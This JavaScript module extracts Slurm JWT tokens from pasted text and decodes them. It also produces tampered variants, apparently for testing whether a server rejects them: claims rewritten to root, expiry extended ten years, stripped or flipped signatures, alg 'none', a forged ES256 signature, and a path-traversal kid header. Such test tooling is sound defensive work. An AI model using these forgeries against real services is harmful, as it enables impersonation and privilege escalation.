// Decodes tokens and alters them as an attacker would. No signature is verified here.

const HEADER = 0;
const PAYLOAD = 1;
const SIGNATURE = 2;
const TEN_YEARS = 10 * 365 * 24 * 3600;
const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';

/** The names of the three parts. */
export const PARTS = ['header', 'claims', 'signature'];

/** What people copy together with a token, and how to name it. */
const EXTRAS = [
  ['export', /^export\s+/],
  ['curl’s -H', /^-H\s+/],
  ['quotes', /^["'`]+/],
  ['SLURM_JWT=', /^SLURM_JWT\s*=\s*/],
  ['Authorization:', /^Authorization\s*:\s*/i],
  ['X-SLURM-USER-TOKEN:', /^X-SLURM-USER-TOKEN\s*:\s*/i],
  ['Bearer', /^Bearer\s+/i],
  ['quotes', /["'`]{1,9};?$/],
];

/**
 * Finds the token in pasted text, such as the output of scontrol token, a header, a line of a shell script, or text
 * with line breaks. Returns it and the names of what is left out.
 */
export function extract(pasted) {
  let text = pasted.trim();
  const leftOut = new Set();
  for (let before = null; before !== text; ) {
    before = text;
    for (const [name, pattern] of EXTRAS) {
      const rest = text.replace(pattern, '').trim();
      if (rest !== text) {
        leftOut.add(name);
        text = rest;
      }
    }
  }
  const token = text.replace(/\s+/g, '');
  if (token !== text) {
    leftOut.add('blanks and line breaks');
  }
  return { token, leftOut: [...leftOut] };
}

/** Returns the unverified header and claims, or null if this is not a token. */
export function decode(token) {
  const parts = token.split('.');
  if (parts.length !== 3) {
    return null;
  }
  try {
    const header = readJson(parts[HEADER]);
    const claims = readJson(parts[PAYLOAD]);
    return isObject(header) && isObject(claims) ? { header, claims } : null;
  } catch {
    return null;
  }
}

/**
 * Returns the claim that names the user by Slurm's rule: a complete identity where the server uses it, else the first of
 * sun, username and userclaimfield that is a string.
 */
export function userClaim(claims, { userClaimField = '', identity = false } = {}) {
  const complete = ['uid', 'gid', 'id'].every((name) => Object.hasOwn(claims, name));
  if (identity && complete && typeof claims.id?.name === 'string' && typeof claims.id.gecos === 'string') {
    return 'id';
  }
  return ['sun', 'username', userClaimField].find((name) => name && typeof claims[name] === 'string');
}

/** Maps the name of a change to a function that returns the changed token, or null if the change does not apply. */
export const changes = {
  'other-user': (parts) =>
    withClaims(parts, (claims) => ({ ...claims, [userClaim(claims) ?? 'sun']: 'root', name: 'root' })),
  later: (parts) => withClaims(parts, (claims) => ({ ...claims, exp: claims.exp + TEN_YEARS })),
  flipped: (parts) =>
    withSignature(parts, (parts[SIGNATURE][0] === 'A' ? 'B' : 'A') + parts[SIGNATURE].slice(1)),
  // A multiple of four characters is canonical base64url, so only the length is wrong.
  cut: (parts) => withSignature(parts, parts[SIGNATURE].slice(0, 20)),
  unsigned: (parts) => withSignature(parts, ''),
  none: (parts) => withSignature(withHeader(parts, { alg: 'none' }).split('.'), ''),
  'none-signed': (parts) => withHeader(parts, { alg: 'nOnE' }),
  psychic: (parts) => withSignature(withHeader(parts, { alg: 'ES256' }).split('.'), 'A'.repeat(86)),
  kid: (parts) => withHeader(parts, { kid: '../../../etc/hostname' }),
  'spare-bits': (parts) => spareBits(parts),
  'fourth-part': (parts) => parts.join('.') + '.e30',
  oversize: (parts) => parts.join('.') + 'A'.repeat(9000),
};

/** Applies the named change. */
export function change(token, name) {
  return changes[name](token.split('.'));
}

function withHeader(parts, members) {
  return [writeJson({ ...readJson(parts[HEADER]), ...members }), parts[PAYLOAD], parts[SIGNATURE]].join('.');
}

function withClaims(parts, edit) {
  return [parts[HEADER], writeJson(edit(readJson(parts[PAYLOAD]))), parts[SIGNATURE]].join('.');
}

function withSignature(parts, signature) {
  return [parts[HEADER], parts[PAYLOAD], signature].join('.');
}

function spareBits(parts) {
  const signature = parts[SIGNATURE];
  if (signature.length % 4 === 0) {
    return null;
  }
  const last = BASE64URL[BASE64URL.indexOf(signature.at(-1)) ^ 1];
  return withSignature(parts, signature.slice(0, -1) + last);
}

function readJson(part) {
  const bytes = Uint8Array.from(atob(part.replace(/-/g, '+').replace(/_/g, '/')), (c) => c.charCodeAt(0));
  return JSON.parse(new TextDecoder('utf-8', { fatal: true }).decode(bytes));
}

function writeJson(value) {
  const bytes = new TextEncoder().encode(JSON.stringify(value));
  return btoa(String.fromCharCode(...bytes)).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
}

function isObject(value) {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}
